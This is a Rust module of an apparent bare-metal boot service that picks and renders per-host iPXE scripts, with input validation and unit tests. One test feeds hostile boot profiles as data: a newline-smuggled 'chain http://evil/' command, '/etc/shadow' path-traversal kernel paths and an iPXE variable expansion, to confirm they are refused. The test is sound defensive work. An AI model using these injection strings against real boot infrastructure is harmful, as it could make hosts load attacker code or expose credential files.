//! Which iPXE script a host gets, decided purely from the host, its MetalMachine and the boot
//! Secret of the current attempt; and the rendering of `ipxe/*.ipxe.j2`.

use minijinja::{Environment, context};

use crate::api::metalhost::HostState;
use crate::api::{MetalHost, MetalMachine};

use super::tokens::BootRecord;

/// Tries a script makes before giving up on a flaky link.
pub const FETCH_RETRIES: u32 = 5;
/// Seconds between tries.
pub const RETRY_DELAY_SECONDS: u32 = 5;
/// Times an unknown host asks again before booting its next device.
pub const UNKNOWN_HOST_ATTEMPTS: u32 = 3;
/// Seconds an unknown host waits before asking again.
pub const UNKNOWN_HOST_DELAY_SECONDS: u32 = 20;

/// The iPXE templates, compiled once.
pub struct Templates {
    env: Environment<'static>,
}

impl Templates {
    pub fn new() -> Result<Self, minijinja::Error> {
        let mut env = Environment::new();
        env.set_trim_blocks(true);
        env.add_template("boot", include_str!("../../ipxe/boot.ipxe.j2"))?;
        env.add_template("provision", include_str!("../../ipxe/provision.ipxe.j2"))?;
        env.add_template("exit", include_str!("../../ipxe/exit.ipxe.j2"))?;
        env.add_template("unknown", include_str!("../../ipxe/unknown.ipxe.j2"))?;
        env.add_template("error", include_str!("../../ipxe/error.ipxe.j2"))?;
        env.add_template("vendor-data", include_str!("vendor-data.sh.j2"))?;
        Ok(Self { env })
    }

    pub fn entry_script(&self, base_url: &str) -> Result<String, minijinja::Error> {
        self.env.get_template("boot")?.render(context! {
            base_url, retries => FETCH_RETRIES, delay => RETRY_DELAY_SECONDS,
        })
    }

    pub fn host_script(
        &self,
        script: &HostScript,
        base_url: &str,
    ) -> Result<String, minijinja::Error> {
        match script {
            HostScript::Provision(p) => self.env.get_template("provision")?.render(context! {
                host => p.host, namespace => p.namespace, machine => p.machine, attempt => p.attempt,
                kernel_url => p.kernel_url, cmdline => p.cmdline,
                initrds => p.initrds.iter().map(|(name, url)| context! { name, url }).collect::<Vec<_>>(),
                retries => FETCH_RETRIES, delay => RETRY_DELAY_SECONDS,
            }),
            HostScript::Idle { host, state } => self
                .env
                .get_template("exit")?
                .render(context! { host, state }),
            HostScript::Unknown { mac, attempt } => self.env.get_template("unknown")?.render(context! {
                mac, attempt, base_url, max_attempts => UNKNOWN_HOST_ATTEMPTS, delay => UNKNOWN_HOST_DELAY_SECONDS,
            }),
            HostScript::Refused { host, reason } => self
                .env
                .get_template("error")?
                .render(context! { host, reason }),
            HostScript::Shared { mac, hosts } => self.env.get_template("error")?.render(context! {
                host => format!("boot MAC {mac}"),
                reason => format!("MetalHosts {hosts} all have this boot MAC, so none of them is booted from here; give each its own spec.bootMACAddress"),
            }),
        }
    }

    pub fn vendor_data(
        &self,
        callback_url: &str,
        wait_seconds: u32,
    ) -> Result<String, minijinja::Error> {
        self.env
            .get_template("vendor-data")?
            .render(context! { callback_url, wait_seconds })
    }
}

/// What to tell a host that asked for its script.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum HostScript {
    /// Boot the provisioning kernel.
    Provision(ProvisionPlan),
    /// Known host, nothing to provision: boot the next device.
    Idle { host: String, state: String },
    /// No MetalHost has this MAC.
    Unknown { mac: String, attempt: u32 },
    /// Provisioning, but the boot profile cannot be rendered safely.
    Refused { host: String, reason: String },
    /// Several MetalHosts have this boot MAC (`hosts` names the first few): none of them gets a
    /// script.
    Shared { mac: String, hosts: String },
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProvisionPlan {
    pub host: String,
    pub namespace: String,
    pub machine: String,
    pub attempt: u32,
    pub kernel_url: String,
    /// (iPXE image name, URL), in load order.
    pub initrds: Vec<(String, String)>,
    /// The profile's command line with the NoCloud datasource appended.
    pub cmdline: String,
}

/// `52-54-00-AB-cd-01` or `52:54:00:ab:cd:01` → `52:54:00:ab:cd:01`; anything else → None.
pub fn normalize_mac(raw: &str) -> Option<String> {
    let parts: Vec<&str> = raw.split(['-', ':']).collect();
    if parts.len() != 6
        || parts
            .iter()
            .any(|p| p.len() != 2 || !p.chars().all(|c| c.is_ascii_hexdigit()))
    {
        return None;
    }
    Some(parts.join(":").to_ascii_lowercase())
}

/// Characters that would let a value change the meaning of an iPXE command line.
fn unsafe_for_ipxe(value: &str) -> bool {
    value.contains("${")
        || value
            .chars()
            .any(|c| c.is_control() || c == '"' || c == '\'' || c == '\\')
}

/// An artifact location from a boot profile as a URL the host can fetch.
pub(crate) fn artifact_url(location: &str, base_url: &str) -> Result<String, String> {
    if location.is_empty() || location.chars().any(char::is_whitespace) || unsafe_for_ipxe(location)
    {
        return Err(format!(
            "boot location {location:?} is empty or has characters iPXE would misread"
        ));
    }
    if location.starts_with("http://") || location.starts_with("https://") {
        return Ok(location.to_string());
    }
    if location.starts_with('/') || location.split('/').any(|seg| seg == "..") {
        return Err(format!(
            "boot location {location:?} must be an http(s) URL or a relative artifact path"
        ));
    }
    Ok(format!("{base_url}/artifacts/{location}"))
}

/// The NoCloud seed URL of an attempt.
pub fn nocloud_url(base_url: &str, token: &str) -> String {
    format!("{base_url}/nocloud/{token}/")
}

/// Decides the script for the host that asked with `mac`. `host` is the MetalHost with that boot
/// MAC (if any), `machine` its consumer, `record` the consumer's current attempt.
pub fn choose_script(
    mac: &str,
    attempt: u32,
    host: Option<&MetalHost>,
    machine: Option<&MetalMachine>,
    record: Option<&BootRecord>,
    base_url: &str,
    deploy: Option<&crate::api::metalmachine::BootProfile>,
) -> HostScript {
    let Some(host) = host else {
        return HostScript::Unknown {
            mac: mac.to_string(),
            attempt: attempt.clamp(1, UNKNOWN_HOST_ATTEMPTS),
        };
    };
    let host_name = host.metadata.name.clone().unwrap_or_default();
    let state = host
        .status
        .as_ref()
        .and_then(|s| s.state)
        .unwrap_or_default();
    let idle = |why: &str| HostScript::Idle {
        host: host_name.clone(),
        state: why.to_string(),
    };
    // Only a host claimed (spec.consumerRef) by the machine the boot Secret names, whose attempt
    // has not called back yet, gets a kernel. Everything else boots its disk. The claim is read
    // from spec, not from the host controller's `state`, which may lag the claim by a moment;
    // states that forbid booting still win.
    // A released image-mode host netboots the deploy agent once more, to be cleaned; a
    // provisioned live-mode host netboots its OS on every boot, with the token armed for it.
    let cleaning = record.is_some_and(|r| r.clean.is_some());
    let rebooting = !cleaning
        && record.is_some_and(|r| r.reboot.is_some())
        && machine.is_some_and(|m| m.spec.mode == crate::api::metalmachine::ProvisioningMode::Live);
    if host.spec.consumer_ref.is_none()
        || state == HostState::Error
        || (!cleaning && state == HostState::Deprovisioning)
        || (!cleaning && !rebooting && state == HostState::Provisioned)
    {
        return idle(&format!("{state:?}"));
    }
    let (Some(machine), Some(record)) = (machine, record) else {
        return idle("Provisioning but not yet ready to boot");
    };
    let consumer = host.spec.consumer_ref.as_ref();
    let machine_name = machine.metadata.name.clone().unwrap_or_default();
    if machine.spec.provider_id.is_some() && !cleaning && !rebooting {
        return idle("already provisioned");
    }
    if consumer.map(|c| c.name.as_str()) != Some(machine_name.as_str())
        || record.metal_machine != machine_name
        || record.host != host_name
    {
        return idle("claimed by another machine");
    }
    if record.callback.is_some() {
        return idle("already bootstrapped");
    }
    // Image mode netboots the deploy agent until the image is written, then boots its disk.
    let image_mode =
        cleaning || machine.spec.mode == crate::api::metalmachine::ProvisioningMode::Image;
    if image_mode
        && record
            .deploy
            .as_ref()
            .is_some_and(|d| d.state != crate::agent::protocol::DeployState::Writing)
    {
        return idle("the deploy agent has finished; the host boots its disk");
    }
    let profile = if image_mode {
        deploy
    } else {
        machine.spec.boot.as_ref()
    };
    let Some(profile) = profile else {
        return HostScript::Refused {
            host: host_name,
            reason: if image_mode {
                "image mode needs the deploy ramdisk (--deploy-kernel/--deploy-initrd), which this boot service was not given".to_string()
            } else {
                "spec.boot is empty".to_string()
            },
        };
    };
    let plan = (|| {
        let kernel_url = artifact_url(&profile.kernel, base_url)?;
        let initrds = profile
            .initrds
            .iter()
            .enumerate()
            .map(|(i, loc)| artifact_url(loc, base_url).map(|url| (format!("initrd{i}"), url)))
            .collect::<Result<Vec<_>, _>>()?;
        let user_cmdline = profile.cmdline.clone().unwrap_or_default();
        if unsafe_for_ipxe(&user_cmdline) {
            return Err("the boot profile's cmdline has characters iPXE would misread".to_string());
        }
        // Live: the OS finds its NoCloud data; image mode: the agent finds its boot service.
        // `nocloud-net`: cloud-init before 23.1 (Debian 12 ships 22.4) takes an http seed from
        // the command line only under that name; later versions accept it as well.
        let datasource = if image_mode {
            format!("metalboot.agent={base_url}/agent/{}", record.token.expose())
        } else {
            format!(
                "ds=nocloud-net;s={}",
                nocloud_url(base_url, record.token.expose())
            )
        };
        let cmdline = [user_cmdline.trim(), datasource.as_str()]
            .iter()
            .filter(|s| !s.is_empty())
            .copied()
            .collect::<Vec<_>>()
            .join(" ");
        Ok(ProvisionPlan {
            host: host_name.clone(),
            namespace: record.namespace.clone(),
            machine: machine_name.clone(),
            attempt: record.attempt,
            kernel_url,
            initrds,
            cmdline,
        })
    })();
    match plan {
        Ok(plan) => HostScript::Provision(plan),
        Err(reason) => HostScript::Refused {
            host: host_name,
            reason,
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::api::metalhost::{BmcDetails, ConsumerReference, MetalHostSpec, MetalHostStatus};
    use crate::api::metalmachine::{BootProfile, MetalMachineSpec};
    use crate::boot::tokens::{NewAttempt, StoredBootSecret, new_boot_secret, parse_boot_secret};
    use k8s_openapi::apimachinery::pkg::apis::meta::v1::OwnerReference;

    const BASE: &str = "http://10.0.2.2:8080";

    fn host(state: HostState, consumer: Option<&str>) -> MetalHost {
        let mut h = MetalHost::new(
            "host-0",
            MetalHostSpec {
                bmc: BmcDetails {
                    address: "redfish://bmc/redfish/v1/Systems/1".into(),
                    credentials_name: "creds".into(),
                    disable_certificate_verification: None,
                    ca_secret_name: None,
                },
                boot_mac_address: "52:54:00:AA:bb:01".into(),
                boot_ip_address: None,
                boot_mode: None,
                online: true,
                description: None,
                consumer_ref: consumer.map(|name| ConsumerReference::to_metal_machine(name, "ns")),
                automated_cleaning_mode: None,
            },
        );
        h.status = Some(MetalHostStatus {
            state: Some(state),
            ..Default::default()
        });
        h
    }

    fn machine(kernel: &str, initrds: &[&str], cmdline: Option<&str>) -> MetalMachine {
        MetalMachine::new(
            "m1",
            MetalMachineSpec {
                boot: Some(BootProfile {
                    kernel: kernel.into(),
                    initrds: initrds.iter().map(|s| s.to_string()).collect(),
                    cmdline: cmdline.map(String::from),
                }),
                ..Default::default()
            },
        )
    }

    fn record(machine: &str, host: &str) -> BootRecord {
        parse_boot_secret(&StoredBootSecret::from(new_boot_secret(&NewAttempt {
            namespace: "ns",
            metal_machine: machine,
            owner: OwnerReference {
                api_version: "infrastructure.cluster.x-k8s.io/v1alpha1".into(),
                kind: "MetalMachine".into(),
                name: machine.into(),
                uid: "uid".into(),
                ..Default::default()
            },
            cluster_name: None,
            host,
            attempt: 1,
            provider_id: "metalboot://ns/host-0",
            user_data: b"#!/bin/sh",
        })))
        .expect("record")
    }

    #[test]
    fn macs_normalise_from_either_notation() {
        assert_eq!(
            normalize_mac("52-54-00-AA-bb-01").as_deref(),
            Some("52:54:00:aa:bb:01")
        );
        assert_eq!(
            normalize_mac("52:54:00:aa:bb:01").as_deref(),
            Some("52:54:00:aa:bb:01")
        );
        for bad in [
            "",
            "52-54-00-aa-bb",
            "52-54-00-aa-bb-01-02",
            "zz-54-00-aa-bb-01",
            "525400aabb01",
            "5-54-00-aa-bb-011",
        ] {
            assert_eq!(normalize_mac(bad), None, "{bad}");
        }
    }

    #[test]
    fn script_choice_table() {
        let good = machine("vmlinuz", &["initrd.gz"], Some("console=ttyS0"));
        let rec = record("m1", "host-0");
        let mut spent = rec.clone();
        spent.callback = Some(crate::boot::tokens::CallbackRecord {
            hostname: None,
            addresses: vec![],
            source_ip: None,
            received_at: "now".into(),
        });
        let provisioning = host(HostState::Provisioning, Some("m1"));
        let other_machine = record("m2", "host-0");
        let other_host = record("m1", "host-9");
        // Provisioned live machine, its Secret armed for the next boot.
        let mut live_provisioned = good.clone();
        live_provisioned.spec.provider_id = Some("metalboot://ns/host-0/uid".into());
        let mut armed = rec.clone();
        armed.reboot = Some(1);
        let mut armed_spent = spent.clone();
        armed_spent.reboot = Some(1);
        let mut image_provisioned = live_provisioned.clone();
        image_provisioned.spec.mode = crate::api::metalmachine::ProvisioningMode::Image;
        type Case<'a> = (
            &'a str,
            Option<MetalHost>,
            Option<&'a MetalMachine>,
            Option<&'a BootRecord>,
            &'a str,
        );
        let cases: Vec<Case> = vec![
            ("unknown MAC", None, None, None, "Unknown"),
            (
                "available host",
                Some(host(HostState::Available, None)),
                None,
                None,
                "Idle",
            ),
            (
                "provisioned host",
                Some(host(HostState::Provisioned, Some("m1"))),
                Some(&good),
                Some(&rec),
                "Idle",
            ),
            (
                "provisioning without a boot Secret yet",
                Some(provisioning.clone()),
                Some(&good),
                None,
                "Idle",
            ),
            (
                "provisioning, attempt current",
                Some(provisioning.clone()),
                Some(&good),
                Some(&rec),
                "Provision",
            ),
            (
                "provisioning, already called back",
                Some(provisioning.clone()),
                Some(&good),
                Some(&spent),
                "Idle",
            ),
            (
                "boot Secret of another machine",
                Some(provisioning.clone()),
                Some(&good),
                Some(&other_machine),
                "Idle",
            ),
            (
                "boot Secret for another host",
                Some(provisioning.clone()),
                Some(&good),
                Some(&other_host),
                "Idle",
            ),
            (
                "provisioned live host, next boot armed: its OS again",
                Some(host(HostState::Provisioned, Some("m1"))),
                Some(&live_provisioned),
                Some(&armed),
                "Provision",
            ),
            (
                "provisioned live host, this boot already called back: not twice",
                Some(host(HostState::Provisioned, Some("m1"))),
                Some(&live_provisioned),
                Some(&armed_spent),
                "Idle",
            ),
            (
                "provisioned live host without an armed boot",
                Some(host(HostState::Provisioned, Some("m1"))),
                Some(&live_provisioned),
                Some(&rec),
                "Idle",
            ),
            (
                "an armed boot on an image-mode machine: its disk",
                Some(host(HostState::Provisioned, Some("m1"))),
                Some(&image_provisioned),
                Some(&armed),
                "Idle",
            ),
            (
                "live host being released: never its OS",
                Some(host(HostState::Deprovisioning, Some("m1"))),
                Some(&live_provisioned),
                Some(&armed),
                "Idle",
            ),
            (
                "host claimed by someone else",
                Some(host(HostState::Provisioning, Some("other"))),
                Some(&good),
                Some(&rec),
                "Idle",
            ),
        ];
        for (what, h, m, r, want) in cases {
            let got = choose_script("52:54:00:aa:bb:01", 1, h.as_ref(), m, r, BASE, None);
            let kind = match got {
                HostScript::Provision(_) => "Provision",
                HostScript::Idle { .. } => "Idle",
                HostScript::Unknown { .. } => "Unknown",
                HostScript::Refused { .. } => "Refused",
                HostScript::Shared { .. } => "Shared",
            };
            assert_eq!(kind, want, "{what}");
        }
    }

    #[test]
    fn provisioning_plan_resolves_artifacts_and_appends_the_datasource() {
        let rec = record("m1", "host-0");
        let m = machine(
            "vmlinuz",
            &["initrd.gz", "https://mirror.example/extra.img"],
            Some(" console=ttyS0 "),
        );
        let HostScript::Provision(plan) = choose_script(
            "m",
            1,
            Some(&host(HostState::Provisioning, Some("m1"))),
            Some(&m),
            Some(&rec),
            BASE,
            None,
        ) else {
            panic!("expected a provisioning script");
        };
        assert_eq!(plan.kernel_url, "http://10.0.2.2:8080/artifacts/vmlinuz");
        assert_eq!(
            plan.initrds,
            vec![
                (
                    "initrd0".to_string(),
                    "http://10.0.2.2:8080/artifacts/initrd.gz".to_string()
                ),
                (
                    "initrd1".to_string(),
                    "https://mirror.example/extra.img".to_string()
                ),
            ]
        );
        assert_eq!(
            plan.cmdline,
            format!(
                "console=ttyS0 ds=nocloud-net;s=http://10.0.2.2:8080/nocloud/{}/",
                rec.token.expose()
            )
        );
        let script = Templates::new()
            .expect("templates")
            .host_script(&HostScript::Provision(plan), BASE)
            .expect("render");
        assert!(script.starts_with("#!ipxe\n"), "{script}");
        assert!(script.contains("kernel http://10.0.2.2:8080/artifacts/vmlinuz initrd=initrd0 initrd=initrd1 console=ttyS0 ds=nocloud-net;s="), "{script}");
        assert!(
            script.contains("initrd --name initrd1 https://mirror.example/extra.img"),
            "{script}"
        );
    }

    /// Image mode: the deploy ramdisk with the agent's URL until the agent has finished, then
    /// the disk; without a deploy ramdisk configured, a refusal that says so.
    #[test]
    fn image_mode_netboots_the_agent_until_written() {
        use crate::agent::protocol::{DeployReport, DeployState};
        let mut m = machine("unused", &[], None);
        m.spec.mode = crate::api::metalmachine::ProvisioningMode::Image;
        m.spec.boot = None;
        let deploy = BootProfile {
            kernel: "deploy/vmlinuz".into(),
            initrds: vec!["deploy/initrd".into()],
            cmdline: Some("console=ttyS0".into()),
        };
        let h = host(HostState::Provisioning, Some("m1"));
        let mut rec = record("m1", "host-0");
        let got = choose_script("m", 1, Some(&h), Some(&m), Some(&rec), BASE, Some(&deploy));
        let HostScript::Provision(plan) = got else {
            panic!("expected the deploy ramdisk, got {got:?}");
        };
        assert_eq!(
            plan.kernel_url,
            "http://10.0.2.2:8080/artifacts/deploy/vmlinuz"
        );
        assert_eq!(
            plan.cmdline,
            format!(
                "console=ttyS0 metalboot.agent=http://10.0.2.2:8080/agent/{}",
                rec.token.expose()
            )
        );
        assert!(
            matches!(
                choose_script("m", 1, Some(&h), Some(&m), Some(&rec), BASE, None),
                HostScript::Refused { .. }
            ),
            "image mode without a deploy ramdisk is refused"
        );
        for state in [DeployState::Written, DeployState::Failed] {
            rec.deploy = Some(DeployReport {
                state,
                device: None,
                written_bytes: 0,
                total_bytes: None,
                bytes_per_second: 0,
                reason: None,
                message: None,
                received_at: None,
            });
            let got = choose_script("m", 1, Some(&h), Some(&m), Some(&rec), BASE, Some(&deploy));
            assert!(
                matches!(got, HostScript::Idle { .. }),
                "{state:?} → {got:?}"
            );
        }
    }

    /// Cleaning: a released, provisioned live or image host netboots the deploy agent with the
    /// cleaning token while it is Deprovisioning, until the agent reported; never in Error.
    #[test]
    fn a_cleaning_attempt_netboots_the_agent_until_it_reported() {
        use crate::agent::protocol::{DeployReport, DeployState};
        let mut m = machine("vmlinuz", &[], None);
        m.spec.provider_id = Some("metalboot://ns/host-0/uid".into());
        let deploy = BootProfile {
            kernel: "deploy/vmlinuz".into(),
            initrds: vec!["deploy/initrd".into()],
            cmdline: None,
        };
        let mut rec = record("m1", "host-0");
        rec.clean = Some(crate::agent::wipe::WipeMode::Metadata);
        for state in [HostState::Provisioned, HostState::Deprovisioning] {
            let h = host(state, Some("m1"));
            let got = choose_script("m", 1, Some(&h), Some(&m), Some(&rec), BASE, Some(&deploy));
            let HostScript::Provision(plan) = got else {
                panic!("{state:?}: expected the deploy ramdisk, got {got:?}");
            };
            assert_eq!(
                plan.cmdline,
                format!(
                    "metalboot.agent=http://10.0.2.2:8080/agent/{}",
                    rec.token.expose()
                )
            );
        }
        let error = host(HostState::Error, Some("m1"));
        let got = choose_script(
            "m",
            1,
            Some(&error),
            Some(&m),
            Some(&rec),
            BASE,
            Some(&deploy),
        );
        assert!(matches!(got, HostScript::Idle { .. }), "{got:?}");
        let h = host(HostState::Deprovisioning, Some("m1"));
        for state in [DeployState::Cleaned, DeployState::Failed] {
            rec.deploy = Some(DeployReport {
                state,
                device: None,
                written_bytes: 0,
                total_bytes: None,
                bytes_per_second: 0,
                reason: None,
                message: None,
                received_at: None,
            });
            let got = choose_script("m", 1, Some(&h), Some(&m), Some(&rec), BASE, Some(&deploy));
            assert!(
                matches!(got, HostScript::Idle { .. }),
                "{state:?} → {got:?}"
            );
        }
        // Without a cleaning record a Deprovisioning host boots its disk as before.
        rec.clean = None;
        rec.deploy = None;
        let got = choose_script("m", 1, Some(&h), Some(&m), Some(&rec), BASE, Some(&deploy));
        assert!(matches!(got, HostScript::Idle { .. }), "{got:?}");
    }

    #[test]
    fn hostile_boot_profiles_are_refused_not_rendered() {
        let rec = record("m1", "host-0");
        let h = host(HostState::Provisioning, Some("m1"));
        for m in [
            machine("vmlinuz", &[], Some("console=ttyS0 ${net0/ip}")),
            machine("vmlinuz", &[], Some("a\nchain http://evil/")),
            machine("/etc/shadow", &[], None),
            machine("../../etc/shadow", &[], None),
            machine("vmlinuz", &["a b"], None),
            machine("http://x/\"k", &[], None),
        ] {
            let got = choose_script("m", 1, Some(&h), Some(&m), Some(&rec), BASE, None);
            assert!(
                matches!(got, HostScript::Refused { .. }),
                "{:?} → {got:?}",
                m.spec.boot
            );
        }
    }

    #[test]
    fn unknown_hosts_ask_a_few_times_then_exit() {
        let t = Templates::new().expect("templates");
        let first = t
            .host_script(
                &HostScript::Unknown {
                    mac: "52:54:00:aa:bb:01".into(),
                    attempt: 1,
                },
                BASE,
            )
            .expect("render");
        assert!(first.contains("sleep 20"), "{first}");
        assert!(first.contains("?attempt=2"), "{first}");
        let last = t
            .host_script(
                &HostScript::Unknown {
                    mac: "52:54:00:aa:bb:01".into(),
                    attempt: UNKNOWN_HOST_ATTEMPTS,
                },
                BASE,
            )
            .expect("render");
        assert!(
            !last.contains("chain"),
            "the last ask must not chain again: {last}"
        );
        assert!(last.trim_end().ends_with("exit"), "{last}");
        // A forged attempt number cannot make the loop longer or tighter.
        let forged = choose_script("m", 0, None, None, None, BASE, None);
        assert_eq!(
            forged,
            HostScript::Unknown {
                mac: "m".into(),
                attempt: 1
            }
        );
    }

    #[test]
    fn the_entry_script_chains_by_mac_with_bounded_retries() {
        let script = Templates::new()
            .expect("templates")
            .entry_script(BASE)
            .expect("render");
        assert!(
            script.contains("chain --autofree http://10.0.2.2:8080/ipxe/${mac:hexhyp}"),
            "{script}"
        );
        assert!(
            script.contains(&format!("iseq ${{metalboot-try}} {FETCH_RETRIES}")),
            "{script}"
        );
        assert!(script.contains("sleep 5"), "{script}");
    }
}
